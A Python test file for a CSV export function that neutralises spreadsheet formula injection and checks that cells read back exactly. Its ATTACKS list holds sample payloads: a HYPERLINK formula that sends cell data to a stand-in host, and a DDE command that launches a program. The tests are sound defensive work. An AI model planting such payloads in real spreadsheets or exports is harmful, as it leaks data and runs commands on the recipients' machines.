"""Spreadsheet CSV cells: text that would run as a formula is neutralised, and reading it back is exact."""

import csv
import io

import pytest

from zwk_network.spreadsheet import restored_cell, spreadsheet_cell, spreadsheet_csv

ATTACKS = ['=HYPERLINK("http://boese.example/?"&A1,"Klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip
ODD_BUT_HARMLESS = [
    "'s-Hertogenbosch",
    "'",
    "''",
    "'=schon zitiert",
    "''=zweimal",
    "'+",
    "a=b",
    "",
    "Zoë",
    "0815",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


def test_numbers_and_plain_text_stay_as_they_are():
    assert [spreadsheet_cell(v) for v in (-3, -12.25, 0, 40, None, "Erika Muster", "'s-Hertogenbosch")] == [
        -3, -12.25, 0, 40, "", "Erika Muster", "'s-Hertogenbosch"
    ]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS + ODD_BUT_HARMLESS)
def test_reading_back_is_exact(text):
    written = spreadsheet_cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restored_cell(written) == text


def test_a_whole_document():
    document = spreadsheet_csv(["name", "count"], [["=1+1", -3], ["Chor", 4]])
    assert list(csv.reader(io.StringIO(document))) == [["name", "count"], ["'=1+1", "-3"], ["Chor", "4"]]
